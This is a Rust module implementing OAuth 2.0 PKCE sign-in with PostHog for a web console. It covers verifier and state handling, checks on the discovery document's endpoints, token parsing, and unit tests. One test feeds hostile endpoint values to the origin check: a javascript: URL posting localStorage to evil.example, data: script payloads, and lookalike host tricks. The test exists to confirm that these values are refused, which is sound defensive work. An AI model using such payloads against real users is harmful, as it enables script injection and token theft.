//! Sign in with PostHog: OAuth 2.0 authorization code with PKCE (RFC 7636, `S256` only) for a
//! public client. Everything here is plain data and arithmetic; the browser supplies the
//! random bytes, the clock and the requests.
//!
//! PostHog's server (`posthog/api/oauth/`, django-oauth-toolkit) takes form-encoded token and
//! revocation requests, issues `pha_` access tokens and `phr_` refresh tokens, and rotates the
//! refresh token on every refresh, so the new one must replace the old.

use std::collections::BTreeSet;

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::host::Host;

/// The scopes the console's screens need, and so the ones it asks for (no more).
/// The four picker scopes are optional for a personal key; a sign-in asks for them so that
/// its editor picks rather than takes typed names.
pub const SCOPES: [&str; 9] = [
    "group:read",
    "group:write",
    "usage_metric:read",
    "usage_metric:write",
    "query:read",
    "event_definition:read",
    "property_definition:read",
    "action:read",
    "warehouse_table:read",
];

/// A PKCE code verifier (43 characters of base64url from 32 random bytes, RFC 7636 §4.1).
/// Its `Debug` never prints it.
#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Verifier(String);

impl Verifier {
    /// The verifier for 32 random bytes (the browser's `crypto.getRandomValues`).
    pub fn from_random(bytes: &[u8; 32]) -> Verifier {
        Verifier(URL_SAFE_NO_PAD.encode(bytes))
    }

    /// A verifier kept from before the redirect; `None` unless it is 43–128 unreserved
    /// characters, as RFC 7636 §4.1 requires.
    pub fn parse(text: &str) -> Option<Verifier> {
        let ok = (43..=128).contains(&text.len())
            && text
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~'));
        ok.then(|| Verifier(text.to_owned()))
    }

    /// The `S256` challenge: base64url(SHA-256(verifier)), unpadded (RFC 7636 §4.2).
    pub fn challenge(&self) -> String {
        URL_SAFE_NO_PAD.encode(Sha256::digest(self.0.as_bytes()))
    }

    /// The verifier's text, for the token request alone.
    pub fn secret(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Debug for Verifier {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Verifier(<hidden>)")
    }
}

/// The `state` sent to the authorize endpoint and expected back on the callback, binding the
/// answer to the sign-in this tab started (RFC 6749 §10.12).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct State(String);

impl State {
    /// A state from 16 random bytes.
    pub fn from_random(bytes: &[u8; 16]) -> State {
        State(URL_SAFE_NO_PAD.encode(bytes))
    }

    /// The state's text, for the authorize URL.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether `returned` is this state. Compares every byte, whatever the first difference,
    /// so the time taken says nothing about how much of a guess was right.
    pub fn matches(&self, returned: &str) -> bool {
        let (a, b) = (self.0.as_bytes(), returned.as_bytes());
        a.len() == b.len() && a.iter().zip(b).fold(0u8, |acc, (x, y)| acc | (x ^ y)) == 0
    }
}

/// A space-separated scope list (RFC 6749 §3.3), as granted or asked for.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Scopes(BTreeSet<String>);

impl Scopes {
    /// Reads a `scope` value; repeated spaces and duplicates are ignored.
    pub fn parse(text: &str) -> Scopes {
        Scopes(text.split_whitespace().map(str::to_owned).collect())
    }

    /// The scopes the console asks for.
    pub fn wanted() -> Scopes {
        Scopes(SCOPES.iter().map(|s| (*s).to_owned()).collect())
    }

    /// Whether `scope` was granted, by the same rule as a personal key's scopes (a `:write`
    /// scope implies its `:read`).
    pub fn grants(&self, scope: &str) -> bool {
        crate::capability::has_scope(&self.to_list(), scope)
    }

    /// The scopes as a list, for the capability lines (which read personal keys' lists too).
    pub fn to_list(&self) -> Vec<String> {
        self.0.iter().cloned().collect()
    }

    /// The space-separated form for a request.
    pub fn to_param(&self) -> String {
        self.to_list().join(" ")
    }

    /// Which of the console's scopes were not granted.
    pub fn missing(&self) -> Vec<&'static str> {
        SCOPES.into_iter().filter(|s| !self.grants(s)).collect()
    }
}

/// Where the authorization server takes each step, from its discovery document
/// (`/.well-known/oauth-authorization-server`, RFC 8414).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Endpoints {
    /// The authorize page the browser is sent to.
    pub authorization_endpoint: String,
    /// Where the code (and later the refresh token) is exchanged.
    pub token_endpoint: String,
    /// Where a token is revoked on sign-out; absent when the server has none.
    #[serde(default)]
    pub revocation_endpoint: Option<String>,
}

/// What can go wrong signing in, each with a message for the connection screen.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SignInError {
    /// The discovery document was not JSON of the right shape.
    BadDiscovery(String),
    /// The server does not offer `S256`, the only PKCE method this client uses.
    NoS256,
    /// The user pressed "Deny" (or the server refused before asking).
    Denied(Option<String>),
    /// The server answered the authorize request with another error.
    AuthorizeFailed(String, Option<String>),
    /// The callback came without a sign-in started in this tab (or after it was used).
    NoPendingSignIn,
    /// The callback's `state` is not the one this tab sent: the answer is not for it.
    StateMismatch,
    /// The callback has neither a code nor an error.
    NoCode,
    /// The token endpoint refused (`invalid_grant`: a used or expired code, or a verifier
    /// that does not match; or a refresh token that no longer works).
    TokenRefused(String, Option<String>),
    /// The token answer was not JSON of the right shape.
    BadTokenAnswer(String),
    /// The discovery document names an endpoint (`which`: "sign-in page", "token endpoint",
    /// "revocation endpoint") off the chosen host's origin, or not over https: a
    /// `javascript:` or `data:` address, another site, a user-info trick. The address itself
    /// is not repeated: it came from a server that may be hostile.
    ForeignEndpoint {
        /// Which endpoint.
        which: &'static str,
        /// The host the user chose.
        host: String,
    },
}

impl std::fmt::Display for SignInError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // The server's own sentence, inside ours: without its full stop, so none is doubled.
        let detail = |d: &Option<String>| {
            d.as_ref()
                .map(|d| format!(" ({})", d.trim().trim_end_matches('.')))
                .unwrap_or_default()
        };
        match self {
            SignInError::BadDiscovery(e) => write!(f, "The host's OAuth settings could not be read: {e}."),
            SignInError::NoS256 => f.write_str("The host does not offer PKCE with S256, which this console requires to sign in safely."),
            SignInError::Denied(d) => write!(f, "Sign-in was cancelled: access was not granted{}. Sign in again, or connect with a personal API key.", detail(d)),
            SignInError::AuthorizeFailed(code, d) => write!(f, "PostHog refused the sign-in: {code}{}.", detail(d)),
            SignInError::NoPendingSignIn => f.write_str("This sign-in was not started in this tab, or it has already been used. Start again with \"Sign in with PostHog\"."),
            SignInError::StateMismatch => f.write_str("The answer from PostHog does not match the sign-in this tab started (the state differs), so it was not used. Start again."),
            SignInError::NoCode => f.write_str("PostHog sent no authorization code back. Start again."),
            SignInError::TokenRefused(code, d) if code == "invalid_grant" => write!(f, "PostHog would not exchange the sign-in for tokens{}: the code was already used or has expired, or the PKCE verifier did not match. Start again.", detail(d)),
            SignInError::TokenRefused(code, d) => write!(f, "PostHog refused the token request: {code}{}.", detail(d)),
            SignInError::BadTokenAnswer(e) => write!(f, "PostHog's token answer could not be read: {e}."),
            SignInError::ForeignEndpoint { which, host } => write!(f, "Sign-in was refused: {host}'s OAuth settings send its {which} to an address that is not on {host} over https. This console follows sign-in addresses only on the host you chose. Connect with a personal API key, or ask whoever runs {host}."),
        }
    }
}

/// Reads `host`'s discovery document: it must offer `S256`, and every endpoint must be on
/// `host`'s own origin ([`Host::owns_url`]), so the browser is sent, and the code, verifier
/// and tokens go, nowhere but the host the user chose.
pub fn decode_discovery(body: &str, host: &Host) -> Result<Endpoints, SignInError> {
    #[derive(Deserialize)]
    struct Doc {
        #[serde(flatten)]
        endpoints: Endpoints,
        #[serde(default)]
        code_challenge_methods_supported: Vec<String>,
    }
    let doc: Doc =
        serde_json::from_str(body).map_err(|e| SignInError::BadDiscovery(e.to_string()))?;
    if !doc
        .code_challenge_methods_supported
        .iter()
        .any(|m| m == "S256")
    {
        return Err(SignInError::NoS256);
    }
    doc.endpoints.check(host)?;
    Ok(doc.endpoints)
}

impl Endpoints {
    /// Checks each endpoint is on `host` ([`Host::owns_url`]). Run on discovery and again on
    /// whatever comes back from storage, which a script or an older build may have written.
    pub fn check(&self, host: &Host) -> Result<(), SignInError> {
        let named = [
            ("sign-in page", Some(&self.authorization_endpoint)),
            ("token endpoint", Some(&self.token_endpoint)),
            ("revocation endpoint", self.revocation_endpoint.as_ref()),
        ];
        match named
            .into_iter()
            .find(|(_, url)| url.is_some_and(|u| !host.owns_url(u)))
        {
            Some((which, _)) => Err(SignInError::ForeignEndpoint {
                which,
                host: host.to_string(),
            }),
            None => Ok(()),
        }
    }
}

/// The address of the consent page to send the browser to, checked to be on the sign-in's
/// host. Only [`PendingSignIn::authorize_url`] makes one, so the one navigation that leaves
/// the app (`browser::go_to_sign_in`) cannot be handed a `javascript:` or foreign address.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AuthorizeUrl(String);

impl AuthorizeUrl {
    /// The address.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// The sign-in in progress, kept in sessionStorage across the redirect and removed on the
/// callback, whatever its outcome. Its `Debug` never prints the verifier.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct PendingSignIn {
    /// The state sent.
    pub state: State,
    /// The verifier whose challenge was sent.
    pub verifier: Verifier,
    /// The data host the tokens are for (where they will be sent, and nowhere else).
    pub host: String,
    /// The endpoints discovered for it.
    pub endpoints: Endpoints,
    /// The client id (the URL of the client metadata document).
    pub client_id: String,
    /// The redirect URI sent, which the token request must repeat exactly.
    pub redirect_uri: String,
    /// Where the user was going (a path of this app) when they signed in.
    pub return_to: String,
}

impl PendingSignIn {
    /// The authorize URL to send the browser to; refused unless the authorization endpoint
    /// is on the sign-in's host (checked here again, whatever built this value).
    pub fn authorize_url(&self) -> Result<AuthorizeUrl, SignInError> {
        let host = Host::parse(&self.host).map_err(SignInError::BadDiscovery)?;
        if !host.owns_url(&self.endpoints.authorization_endpoint) {
            return Err(SignInError::ForeignEndpoint {
                which: "sign-in page",
                host: host.to_string(),
            });
        }
        let query = form_urlencoded::Serializer::new(String::new())
            .append_pair("response_type", "code")
            .append_pair("client_id", &self.client_id)
            .append_pair("redirect_uri", &self.redirect_uri)
            .append_pair("scope", &Scopes::wanted().to_param())
            .append_pair("state", self.state.as_str())
            .append_pair("code_challenge", &self.verifier.challenge())
            .append_pair("code_challenge_method", "S256")
            .finish();
        let sep = if self.authorization_endpoint_has_query() {
            '&'
        } else {
            '?'
        };
        Ok(AuthorizeUrl(format!(
            "{}{sep}{query}",
            self.endpoints.authorization_endpoint
        )))
    }

    fn authorization_endpoint_has_query(&self) -> bool {
        self.endpoints.authorization_endpoint.contains('?')
    }

    /// Reads the callback's query string (without `?`) against this sign-in: the code to
    /// exchange, or why there is none. The state is checked before anything else is read.
    pub fn read_callback(&self, query: &str) -> Result<String, SignInError> {
        let params: Vec<(String, String)> = form_urlencoded::parse(query.as_bytes())
            .into_owned()
            .collect();
        let get = |name: &str| {
            params
                .iter()
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.clone())
        };
        match get("state") {
            Some(s) if self.state.matches(&s) => {}
            _ => return Err(SignInError::StateMismatch),
        }
        if let Some(error) = get("error") {
            let description = get("error_description");
            return Err(if error == "access_denied" {
                SignInError::Denied(description)
            } else {
                SignInError::AuthorizeFailed(error, description)
            });
        }
        get("code")
            .filter(|c| !c.is_empty())
            .ok_or(SignInError::NoCode)
    }

    /// The form body exchanging `code` for tokens (RFC 6749 §4.1.3 with RFC 7636 §4.5).
    pub fn token_request(&self, code: &str) -> String {
        form_urlencoded::Serializer::new(String::new())
            .append_pair("grant_type", "authorization_code")
            .append_pair("code", code)
            .append_pair("redirect_uri", &self.redirect_uri)
            .append_pair("client_id", &self.client_id)
            .append_pair("code_verifier", self.verifier.secret())
            .finish()
    }
}

/// The form body trading a refresh token for new tokens (RFC 6749 §6).
pub fn refresh_request(refresh_token: &str, client_id: &str) -> String {
    form_urlencoded::Serializer::new(String::new())
        .append_pair("grant_type", "refresh_token")
        .append_pair("refresh_token", refresh_token)
        .append_pair("client_id", client_id)
        .finish()
}

/// The form body revoking a token (RFC 7009 §2.1).
pub fn revoke_request(token: &str, hint: &str, client_id: &str) -> String {
    form_urlencoded::Serializer::new(String::new())
        .append_pair("token", token)
        .append_pair("token_type_hint", hint)
        .append_pair("client_id", client_id)
        .finish()
}

/// Tokens in hand. Their `Debug` never prints either token.
#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Tokens {
    /// The Bearer token for API calls.
    pub access: String,
    /// The token for getting the next access token; PostHog rotates it on every use.
    pub refresh: Option<String>,
    /// When the access token stops working, in milliseconds since the epoch.
    pub expires_at_ms: u64,
    /// What was granted, which may be less than what was asked.
    pub scopes: Scopes,
    /// The projects the user chose at consent (`scoped_teams`); `None`: not limited, or
    /// not said.
    #[serde(default)]
    pub projects: Option<Vec<i64>>,
}

impl std::fmt::Debug for Tokens {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Tokens")
            .field("expires_at_ms", &self.expires_at_ms)
            .field("scopes", &self.scopes)
            .finish_non_exhaustive()
    }
}

/// How long before expiry a token is refreshed: a request started just before the edge
/// still arrives with a working token.
pub const REFRESH_MARGIN_MS: u64 = 60_000;

impl Tokens {
    /// Milliseconds from `now_ms` until the token should be refreshed (0: now). A short
    /// lifetime refreshes at its half-way point rather than at once.
    pub fn refresh_in_ms(&self, now_ms: u64) -> u64 {
        let left = self.expires_at_ms.saturating_sub(now_ms);
        left.saturating_sub(REFRESH_MARGIN_MS.min(left / 2))
    }

    /// Whether the access token has run out at `now_ms`.
    pub fn expired(&self, now_ms: u64) -> bool {
        now_ms >= self.expires_at_ms
    }
}

/// Reads a token answer received at `now_ms`. Without a `scope` the grant is what was asked
/// (RFC 6749 §5.1); without `expires_in`, an hour, PostHog's lifetime.
pub fn decode_tokens(body: &str, asked: &Scopes, now_ms: u64) -> Result<Tokens, SignInError> {
    #[derive(Deserialize)]
    struct Answer {
        access_token: String,
        token_type: String,
        expires_in: Option<u64>,
        refresh_token: Option<String>,
        scope: Option<String>,
        #[serde(default)]
        scoped_teams: Option<Vec<i64>>,
    }
    let a: Answer =
        serde_json::from_str(body).map_err(|e| SignInError::BadTokenAnswer(e.to_string()))?;
    if !a.token_type.eq_ignore_ascii_case("bearer") {
        return Err(SignInError::BadTokenAnswer(format!(
            "token type {:?} is not Bearer",
            a.token_type
        )));
    }
    if a.access_token.is_empty() || a.access_token.chars().any(|c| c.is_whitespace()) {
        return Err(SignInError::BadTokenAnswer(
            "the access token is empty or has spaces".into(),
        ));
    }
    let lifetime_ms = a.expires_in.unwrap_or(3600).saturating_mul(1000);
    Ok(Tokens {
        access: a.access_token,
        refresh: a.refresh_token.filter(|r| !r.is_empty()),
        expires_at_ms: now_ms.saturating_add(lifetime_ms),
        scopes: a
            .scope
            .map(|s| Scopes::parse(&s))
            .unwrap_or_else(|| asked.clone()),
        projects: a.scoped_teams.filter(|t| !t.is_empty()),
    })
}

/// Reads a token endpoint refusal (`{"error", "error_description"}`, RFC 6749 §5.2).
pub fn decode_token_error(status: u16, body: &str) -> SignInError {
    #[derive(Deserialize)]
    struct Refusal {
        error: String,
        error_description: Option<String>,
    }
    match serde_json::from_str::<Refusal>(body) {
        Ok(r) => SignInError::TokenRefused(r.error, r.error_description),
        Err(_) => SignInError::TokenRefused(format!("HTTP {status}"), None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pending() -> PendingSignIn {
        PendingSignIn {
            state: State::from_random(&[7; 16]),
            verifier: Verifier::from_random(&[9; 32]),
            host: "https://us.posthog.com".into(),
            endpoints: Endpoints {
                authorization_endpoint: "https://us.posthog.com/oauth/authorize/".into(),
                token_endpoint: "https://us.posthog.com/oauth/token/".into(),
                revocation_endpoint: Some("https://us.posthog.com/oauth/revoke/".into()),
            },
            client_id: "https://console.example/oauth-client.json".into(),
            redirect_uri: "https://console.example/oauth/callback".into(),
            return_to: "/group-types".into(),
        }
    }

    #[test]
    fn pkce_matches_rfc_7636_appendix_b() {
        // The octets of appendix B, their verifier and its S256 challenge.
        let octets: [u8; 32] = [
            116, 24, 223, 180, 151, 153, 224, 37, 79, 250, 96, 125, 216, 173, 187, 186, 22, 212,
            37, 77, 105, 214, 191, 240, 91, 88, 5, 88, 83, 132, 141, 121,
        ];
        let v = Verifier::from_random(&octets);
        assert_eq!(v.secret(), "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk");
        assert_eq!(v.challenge(), "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM");
        assert_eq!(Verifier::parse(v.secret()), Some(v.clone()));
        assert!(!format!("{v:?}").contains("dBjf"));
    }

    #[test]
    fn verifier_rules() {
        assert!(Verifier::parse("short").is_none());
        assert!(Verifier::parse(&"a".repeat(43)).is_some());
        assert!(Verifier::parse(&"a".repeat(129)).is_none());
        assert!(Verifier::parse(&format!("{}+", "a".repeat(43))).is_none());
    }

    #[test]
    fn state_is_checked_before_anything_else() {
        let p = pending();
        let s = p.state.as_str().to_owned();
        assert_eq!(
            p.read_callback(&format!("code=abc&state={s}")),
            Ok("abc".into())
        );
        // A tampered state: the code is not used, and neither is an error it carries.
        assert_eq!(
            p.read_callback(&format!("code=abc&state={s}x")),
            Err(SignInError::StateMismatch)
        );
        assert_eq!(p.read_callback("code=abc"), Err(SignInError::StateMismatch));
        assert_eq!(
            p.read_callback("error=access_denied&state=other"),
            Err(SignInError::StateMismatch)
        );
        assert_eq!(
            p.read_callback(&format!(
                "error=access_denied&error_description=The+user+said+no&state={s}"
            )),
            Err(SignInError::Denied(Some("The user said no".into())))
        );
        assert_eq!(
            SignInError::Denied(Some("The user denied access.".into())).to_string(),
            "Sign-in was cancelled: access was not granted (The user denied access). Sign in again, or connect with a personal API key."
        );
        assert_eq!(
            p.read_callback(&format!("error=invalid_scope&state={s}")),
            Err(SignInError::AuthorizeFailed("invalid_scope".into(), None))
        );
        assert_eq!(
            p.read_callback(&format!("state={s}")),
            Err(SignInError::NoCode)
        );
        assert!(!p.state.matches(""));
    }

    #[test]
    fn authorize_url_asks_for_s256_and_the_screens_scopes() {
        let p = pending();
        let url = p.authorize_url().expect("on the host");
        let url = url.as_str();
        let (base, query) = url.split_once('?').expect("query");
        assert_eq!(base, "https://us.posthog.com/oauth/authorize/");
        let params: Vec<(String, String)> = form_urlencoded::parse(query.as_bytes())
            .into_owned()
            .collect();
        let get = |k: &str| params.iter().find(|(n, _)| n == k).map(|(_, v)| v.as_str());
        assert_eq!(get("response_type"), Some("code"));
        assert_eq!(get("code_challenge_method"), Some("S256"));
        assert_eq!(get("code_challenge"), Some(p.verifier.challenge().as_str()));
        assert_eq!(get("state"), Some(p.state.as_str()));
        assert_eq!(
            get("redirect_uri"),
            Some("https://console.example/oauth/callback")
        );
        assert_eq!(
            get("scope"),
            Some("action:read event_definition:read group:read group:write property_definition:read query:read usage_metric:read usage_metric:write warehouse_table:read")
        );
        // The verifier itself never leaves the tab before the token request.
        assert!(!url.contains(p.verifier.secret()));
        let body = p.token_request("the-code");
        assert!(body.contains(&format!("code_verifier={}", p.verifier.secret())));
        assert!(body.contains("grant_type=authorization_code"));
    }

    #[test]
    fn scope_parsing() {
        let s = Scopes::parse("  group:read  usage_metric:write group:read ");
        assert_eq!(s.to_list(), vec!["group:read", "usage_metric:write"]);
        assert!(s.grants("usage_metric:read"), "write implies read");
        assert!(!s.grants("group:write"));
        assert_eq!(
            s.missing(),
            vec![
                "group:write",
                "query:read",
                "event_definition:read",
                "property_definition:read",
                "action:read",
                "warehouse_table:read"
            ]
        );
        assert!(Scopes::wanted().missing().is_empty());
        assert!(Scopes::parse("").to_list().is_empty());
    }

    #[test]
    fn token_expiry_arithmetic() {
        let asked = Scopes::wanted();
        let t = decode_tokens(
            r#"{"access_token":"pha_a","token_type":"Bearer","expires_in":3600,"refresh_token":"phr_r","scope":"group:read"}"#,
            &asked,
            1_000_000,
        )
        .expect("tokens");
        assert_eq!(t.expires_at_ms, 1_000_000 + 3_600_000);
        assert_eq!(t.refresh_in_ms(1_000_000), 3_600_000 - REFRESH_MARGIN_MS);
        assert_eq!(t.scopes, Scopes::parse("group:read"));
        assert!(!t.expired(4_599_999));
        assert!(t.expired(4_600_000));
        assert_eq!(t.refresh_in_ms(5_000_000), 0, "past expiry: now");
        // A 10 s token refreshes at 5 s, not at once.
        let short = decode_tokens(
            r#"{"access_token":"pha_a","token_type":"bearer","expires_in":10}"#,
            &asked,
            0,
        )
        .expect("tokens");
        assert_eq!(short.refresh_in_ms(0), 5_000);
        assert_eq!(
            short.scopes, asked,
            "no scope in the answer: what was asked"
        );
        assert_eq!(short.refresh, None);
        // Absurd lifetimes saturate rather than wrap.
        let long = decode_tokens(
            r#"{"access_token":"pha_a","token_type":"Bearer","expires_in":18446744073709551615}"#,
            &asked,
            5,
        )
        .expect("tokens");
        assert_eq!(long.expires_at_ms, u64::MAX);
        assert!(!format!("{long:?}").contains("pha_a"));
    }

    #[test]
    fn bad_token_answers_and_refusals() {
        let asked = Scopes::wanted();
        assert!(matches!(
            decode_tokens(r#"{"access_token":"x","token_type":"mac"}"#, &asked, 0),
            Err(SignInError::BadTokenAnswer(_))
        ));
        assert!(matches!(
            decode_tokens("<html>", &asked, 0),
            Err(SignInError::BadTokenAnswer(_))
        ));
        assert_eq!(
            decode_token_error(
                400,
                r#"{"error":"invalid_grant","error_description":"Invalid code"}"#
            ),
            SignInError::TokenRefused("invalid_grant".into(), Some("Invalid code".into()))
        );
        assert_eq!(
            decode_token_error(502, "Bad gateway"),
            SignInError::TokenRefused("HTTP 502".into(), None)
        );
    }

    fn us() -> Host {
        Host::parse("https://us.posthog.com").expect("host")
    }

    fn discovery(authorize: &str, token: &str) -> String {
        serde_json::json!({
            "authorization_endpoint": authorize,
            "token_endpoint": token,
            "code_challenge_methods_supported": ["S256"],
        })
        .to_string()
    }

    #[test]
    fn discovery_requires_s256() {
        let ok = r#"{"issuer":"https://us.posthog.com","authorization_endpoint":"https://us.posthog.com/oauth/authorize/","token_endpoint":"https://us.posthog.com/oauth/token/","revocation_endpoint":"https://us.posthog.com/oauth/revoke/","code_challenge_methods_supported":["S256"]}"#;
        assert_eq!(
            decode_discovery(ok, &us())
                .expect("ok")
                .revocation_endpoint
                .as_deref(),
            Some("https://us.posthog.com/oauth/revoke/")
        );
        let plain = r#"{"authorization_endpoint":"a","token_endpoint":"t","code_challenge_methods_supported":["plain"]}"#;
        assert_eq!(decode_discovery(plain, &us()), Err(SignInError::NoS256));
        assert!(matches!(
            decode_discovery("{}", &us()),
            Err(SignInError::BadDiscovery(_))
        ));
    }

    /// Issue 25: a poisoned discovery document sent the browser to `javascript:` (script in
    /// the app's origin) or to another site. Every endpoint must be on the chosen host.
    #[test]
    fn discovery_endpoints_must_be_on_the_chosen_host() {
        let token = "https://us.posthog.com/oauth/token/";
        let foreign = |which| {
            Err(SignInError::ForeignEndpoint {
                which,
                host: "https://us.posthog.com".into(),
            })
        };
        for bad in [
            "javascript:fetch('https://evil.example/steal',{method:'POST',body:localStorage.k})",
            "JavaScript://us.posthog.com/%0aalert(1)",
            "data:text/html,<script>alert(1)</script>",
            "https://evil.example/oauth/authorize/",
            "https://us.posthog.com.evil.example/oauth/authorize/",
            "https://us.posthog.com@evil.example/oauth/authorize/",
            "https://evil.example@us.posthog.com/oauth/authorize/",
            "https://us.posthog.com\\@evil.example/",
            "http://us.posthog.com/oauth/authorize/",
            "https://us.posthog.com:8443/oauth/authorize/",
            "//evil.example/oauth/authorize/",
            "/oauth/authorize/",
            " https://us.posthog.com/oauth/authorize/",
            "https://us.posthog.com/oauth/authorize/\n",
        ] {
            assert_eq!(
                decode_discovery(&discovery(bad, token), &us()),
                foreign("sign-in page"),
                "{bad}"
            );
        }
        assert_eq!(
            decode_discovery(
                &discovery(
                    "https://us.posthog.com/oauth/authorize/",
                    "https://evil.example/t"
                ),
                &us()
            ),
            foreign("token endpoint")
        );
        // The good case, with a query of its own kept.
        let good = decode_discovery(
            &discovery("https://us.posthog.com/oauth/authorize/?x=1", token),
            &us(),
        )
        .expect("on the host");
        assert_eq!(
            good.authorization_endpoint,
            "https://us.posthog.com/oauth/authorize/?x=1"
        );
        // http only where the host is a numeric loopback address.
        let local = Host::parse("http://127.0.0.1:8000").expect("host");
        assert!(decode_discovery(
            &discovery(
                "http://127.0.0.1:8000/oauth/authorize/",
                "http://127.0.0.1:8000/oauth/token/"
            ),
            &local
        )
        .is_ok());
        let named = Host::parse("http://localhost:8000").expect("host");
        assert!(decode_discovery(
            &discovery(
                "http://localhost:8000/oauth/authorize/",
                "http://localhost:8000/oauth/token/"
            ),
            &named
        )
        .is_err());
    }

    /// The navigation builds its address from the pending sign-in and checks it again, so a
    /// stored record edited by a script cannot smuggle in another address either.
    #[test]
    fn authorize_url_is_refused_off_the_host() {
        let mut p = pending();
        p.endpoints.authorization_endpoint = "javascript:alert(1)//".into();
        assert!(matches!(
            p.authorize_url(),
            Err(SignInError::ForeignEndpoint { .. })
        ));
        p.endpoints.authorization_endpoint = "https://evil.example/authorize".into();
        assert!(p.authorize_url().is_err());
        let message = SignInError::ForeignEndpoint {
            which: "sign-in page",
            host: "https://us.posthog.com".into(),
        }
        .to_string();
        assert!(
            message.contains("not on https://us.posthog.com"),
            "{message}"
        );
    }

    #[test]
    fn refresh_and_revoke_bodies() {
        assert_eq!(
            refresh_request("phr_1 2", "https://c/x.json"),
            "grant_type=refresh_token&refresh_token=phr_1+2&client_id=https%3A%2F%2Fc%2Fx.json"
        );
        assert_eq!(
            revoke_request("pha_1", "access_token", "c"),
            "token=pha_1&token_type_hint=access_token&client_id=c"
        );
    }
}
